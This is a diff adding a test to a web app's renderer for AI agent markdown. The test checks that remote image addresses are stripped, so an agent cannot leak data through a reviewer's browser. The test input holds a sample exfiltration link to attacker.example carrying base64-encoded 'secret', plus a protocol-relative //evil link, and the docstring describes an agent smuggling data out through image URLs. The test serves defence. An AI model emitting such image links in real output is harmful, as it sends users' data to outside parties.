@@ -121,3 +121,13 @@ def test_a_message_rendered_again_is_the_same_sanitised_markup() -> None:
     long = "word " * 2000  # over the cache's size limit: rendered each time, the same way
     [big] = build([ev(3, "assistant", text=long)])
     assert big.html is not None and str(big.html).startswith("<p>word word")
+
+
+def test_agent_markdown_sends_nothing_to_another_origin() -> None:
+    """An agent that puts what it knows in an image address must not have the reviewer's browser
+    fetch it: remote images lose their address (the alt text stays), local ones keep it."""
+    from tasks.http.pages.timeline import agent_markdown
+
+    html = str(agent_markdown("![leak](https://attacker.example/p.png?d=c2VjcmV0) ![ok](/static/x.png) ![p](//evil/x)"))
+    assert "attacker.example" not in html and "//evil" not in html
+    assert 'alt="leak"' in html and 'src="/static/x.png"' in html
